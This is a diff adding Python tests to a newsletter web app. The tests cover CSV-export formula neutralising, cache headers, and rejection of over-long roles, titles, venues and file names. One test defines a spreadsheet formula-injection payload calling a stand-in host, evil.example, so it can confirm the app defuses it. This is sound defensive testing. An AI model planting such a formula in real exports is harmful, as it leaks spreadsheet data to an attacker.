@@ -9,6 +9,8 @@ publishes.  Servers started here listen on 127.0.0.1 and are stopped.
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import socket
 import threading
@@ -36,8 +38,11 @@ from web_fixtures import (
     app,
     client,
     csrf,
+    future_update_md,
     login,
     organiser,
+    send_now,
+    store_update,
     transport,
 )
 
@@ -46,13 +51,13 @@ from newsletter.config import Settings, get_settings, reset_settings
 from newsletter.db import session_scope
 from newsletter.dispatch.queue import in_process_queue
 from newsletter.errors import UserError
-from newsletter.models import ApiToken, ImportJob, Organiser, Subscriber
+from newsletter.models import ApiToken, EventRecord, ImportJob, Organiser, Subscriber
 from newsletter.organisers import find_organiser, issue_token
 from newsletter.segment_rules import RuleError, parse_rule
 from newsletter.subscriber_csv import export_csv, import_csv
 from newsletter.subscribers import SubscriberError, SubscriberInput, set_status
 from newsletter.throttles import MemoryThrottle, RedisThrottle
-from newsletter.tokens import CONFIRM, TTL, make_token, read_token
+from newsletter.tokens import CONFIRM, TTL, make_token, preferences_url, read_token
 from newsletter.transports.memory import InMemoryTransport
 from newsletter.web import create_app
 from newsletter.web.security import SessionData, read_session, sign_session
@@ -729,3 +734,95 @@ def test_compose_binds_flower_and_mailpit_to_loopback() -> None:
     for service in ("flower", "mailpit"):
         for port in compose["services"][service].get("ports", []):
             assert str(port).startswith("127.0.0.1:"), (service, port)
+
+
+# 13. Spreadsheets and caches: every CSV download -------------------------------------
+
+
+def test_every_csv_download_neutralises_formulas_and_is_not_cached(
+    client: TestClient, api_token: str
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    _post_subscribe(client, email="sheet@example.org", name=formula, role="dcs")
+    in_process_queue().drain()
+    with session_scope() as session:
+        set_status(_subscriber_in(session, "sheet@example.org"), "active", source="test")
+    send_id = send_now(store_update(future_update_md()), ["dcs"])
+    with session_scope() as session:
+        event_id = session.scalars(select(EventRecord.id)).one()
+    login(client)
+    for path, auth in (
+        (f"/console/sends/{send_id}/recipients.csv", {}),
+        (f"/api/v1/sends/{send_id}/recipients.csv", _auth(api_token)),
+    ):
+        response = client.get(path, headers=auth)
+        (row,) = csv.DictReader(io.StringIO(response.text))
+        assert row["name"] == "'" + formula, path
+    for path in (
+        f"/console/sends/{send_id}/recipients.csv",
+        "/console/subscribers/export.csv",
+        f"/console/events/{event_id}/attendees.csv",
+    ):
+        response = client.get(path)
+        assert response.status_code == 200, path
+        assert response.headers["cache-control"] == "no-store", path
+
+
+def _subscriber_in(session: Any, email: str) -> Subscriber:
+    found: Subscriber = session.scalars(
+        select(Subscriber).where(Subscriber.email_key == email)
+    ).one()
+    return found
+
+
+# 14. Role names longer than the column that stores them ------------------------------
+
+
+def test_an_over_long_role_is_bad_input_not_a_crash(client: TestClient) -> None:
+    too_long, longest = "r" * 101, "r" * 100
+    with pytest.raises(SubscriberError, match="at most 100"):
+        SubscriberInput.build("a@example.org", roles=[too_long])
+    assert _post_subscribe(client, email="a@example.org", role=too_long).status_code == 400
+    add_subscribers(1)
+    reader = _subscriber("reader0@example.org")
+    token = preferences_url(reader.id).rsplit("/", 1)[1]
+    refused = client.post(f"/preferences/{token}", data={"roles": [too_long]})
+    assert refused.status_code == 400 and "at most 100 characters" in refused.text
+    assert _subscriber("reader0@example.org").role_names == ["dcs"]
+    saved = client.post(f"/preferences/{token}", data={"roles": [longest]}, follow_redirects=False)
+    assert saved.status_code == 303
+    assert _subscriber("reader0@example.org").role_names == [longest]
+
+
+# 15. Updates with fields longer than their columns -----------------------------------
+
+
+def test_an_update_too_long_for_its_columns_is_bad_input_everywhere(
+    client: TestClient, api_token: str, tmp_path: Path
+) -> None:
+    from newsletter.cli import app as cli_app
+
+    long_title = f"---\ntitle: {'t' * 301}\n---\n\nHello.\n"
+    long_venue = future_update_md().replace("Durham County Hall", "v" * 301)
+    login(client)
+    token = csrf(client, "/console/updates")
+    for text, field in ((long_title, "title"), (long_venue, "event 1 location")):
+        pasted = client.post("/console/updates", data={"text": text, "csrf_token": token})
+        assert pasted.status_code == 400 and f"{field}: at most" in pasted.text
+        api = client.post(
+            "/api/v1/updates",
+            json={"text": text, "source_name": "u.md"},
+            headers=_auth(api_token),
+        )
+        assert api.status_code == 422 and f"{field}: at most" in api.text
+        path = tmp_path / "long.md"
+        path.write_text(text)
+        cli = CliRunner().invoke(cli_app, ["ingest", str(path)])
+        assert cli.exit_code == 2 and f"{field}: at most" in cli.output
+    long_name = client.post(
+        "/api/v1/updates",
+        json={"text": future_update_md(), "source_name": "n" * 501 + ".md"},
+        headers=_auth(api_token),
+    )
+    assert long_name.status_code == 422 and "file name: at most 500" in long_name.text
+    assert client.get("/api/v1/updates", headers=_auth(api_token)).json() == []
